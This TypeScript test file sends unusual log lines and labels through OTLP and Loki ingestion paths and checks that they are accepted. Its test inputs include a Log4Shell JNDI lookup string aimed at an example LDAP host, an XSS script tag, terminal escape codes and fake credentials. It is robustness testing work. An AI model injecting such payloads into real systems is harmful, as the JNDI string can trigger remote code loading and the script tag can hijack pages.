import { encodeProto } from '../../../ingest/testing/otlp-protos.ts';
import { type Door, lokiProto, nowNanos, type Sent } from './doors.ts';
import { isProto, type Row } from './row.ts';

const takesLogs = ({ protocol }: Door) => protocol.startsWith('otlp') || protocol === 'loki';

/** A log record of this body, as the door has it. */
function logOf(door: Door, body: string, labels: Readonly<Record<string, string>> = { app: 'a' }): Sent {
  if (door.name === 'Loki protobuf') {
    const text = Object.entries(labels).map(([name, value]) => `${name}=${JSON.stringify(value)}`);
    return door.pack(lokiProto(body, `{${text.join(',')}}`));
  }
  if (door.name === 'Loki JSON') {
    return door.pack(Buffer.from(JSON.stringify({ streams: [{ stream: labels, values: [[nowNanos(), body]] }] })));
  }
  const attributes = Object.entries(labels).map(([key, stringValue]) => ({ key, value: { stringValue } }));
  const logRecords = [{ timeUnixNano: nowNanos(), body: { stringValue: body } }];
  const request = { resourceLogs: [{ resource: { attributes }, scopeLogs: [{ logRecords }] }] };
  const plain = isProto(door) ? encodeProto('LogsRequest', request) : Buffer.from(JSON.stringify(request));
  return { ...door.pack(plain), at: 'logs' };
}

const lines: readonly (readonly [string, string])[] = [
  ['10 MB', `begin ${'x'.repeat(10_000_000)}`],
  ['line ends within', 'one\r\ntwo\nthree'],
  ['escapes of a terminal', '\u001b[31mred\u001b]0;title\u0007'],
  ['NUL', 'a\u0000b'],
  ['of log4j', '$' + '{jndi:ldap://198.51.100.1/a}'],
  ['HTML', '<script>alert(1)</script>'],
  ['secrets', 'password=hunter2 Authorization: Bearer abcdefghijklmnopqrstuvwxyz012345'],
  ['empty', ''],
];

/** B12. */
export const logLines: readonly Row[] = [
  ...lines.map(
    ([what, line]): Row => ({
      what: `B12 a log line: ${what}`,
      to: takesLogs,
      send: (door) => logOf(door, line),
      answer: 'accepted',
    }),
  ),
  {
    what: 'B12 a log line: not UTF-8',
    to: (door) => takesLogs(door) && isProto(door) && door.protocol !== 'loki',
    send(door) {
      const sent = logOf(door, 'a~~b');
      return { ...sent, wire: Buffer.from(sent.wire).map((byte) => (byte === 0x7e ? 0xff : byte)) };
    },
    answer: 'accepted',
  },
  {
    what: 'B7 labels of a stream: 500',
    to: takesLogs,
    send: (door) => logOf(door, 'x', Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`l${at}`, 'x']))),
    answer: 'partial',
  },
  {
    what: 'B7 labels of a stream: a value of 1 MB',
    to: takesLogs,
    send: (door) => logOf(door, 'x', { app: 'x'.repeat(1_000_000) }),
    answer: 'partial',
  },
];
